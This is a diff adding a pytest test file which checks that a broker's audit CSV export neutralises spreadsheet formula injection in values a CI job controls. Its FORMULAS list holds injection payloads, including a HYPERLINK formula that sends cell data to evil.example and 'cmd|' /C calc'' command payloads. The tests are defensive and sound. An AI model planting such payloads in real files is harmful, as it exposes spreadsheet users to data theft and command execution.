@@ -1,0 +1,74 @@
+"""Row 173: what a job puts into its claims is no formula in the spreadsheet of an auditor."""
+
+import csv
+import io
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from broker.core import audit_csv
+from tests.audited_broker import AuditedStore
+from tests.running_broker import RunningBroker
+
+STARTS = "=+-@\t\r\n|%'\uff1d\uff0b\uff0d\uff20"
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "  =1+1",
+    "\r=1",
+    "\uff1d1+1",
+]
+
+
+def cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def is_harmless(cell: str) -> bool:
+    return not cell.lstrip(" ").startswith(tuple(STARTS.replace("'", "")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_a_text(formula: str) -> None:
+    [row] = cells(audit_csv.header() + audit_csv.row({"seq": 1, "subject": formula}))
+
+    assert row["subject"].startswith("'")
+    assert is_harmless(row["subject"])
+
+
+@given(st.text(max_size=30), st.text(max_size=30))
+def test_no_text_makes_a_formula_or_another_row(subject: str, target: str) -> None:
+    members: dict[str, Any] = {"seq": 1, "subject": subject, "target": target, "count": -1}
+    text = audit_csv.header() + audit_csv.row(members)
+
+    [row] = cells(text)
+    assert text.count("\r\n") == 2
+    assert tuple(row) == audit_csv.HEADER
+    assert is_harmless(row["subject"])
+    assert is_harmless(row["target"])
+    assert row["count"] == "-1"
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Iterator[AuditedStore]:
+    with RunningBroker(tmp_path).serving() as broker:
+        for formula in FORMULAS[:5]:
+            token = broker.github_token(ref="refs/heads/x", sub=formula, workflow=formula)
+            broker.exchange(token)
+        yield AuditedStore(broker)
+
+
+def test_what_a_job_chooses_is_exported_as_a_text(store: AuditedStore) -> None:
+    exported = store.audit("export", "--format", "csv")
+
+    assert (exported.exit_code, exported.stderr) == (0, "")
+    rows = cells(exported.stdout_bytes.decode())
+    assert [row["seq"] for row in rows] == [str(each["seq"]) for each in store.broker.events()]
+    assert all(is_harmless(cell) for row in rows for cell in row.values())
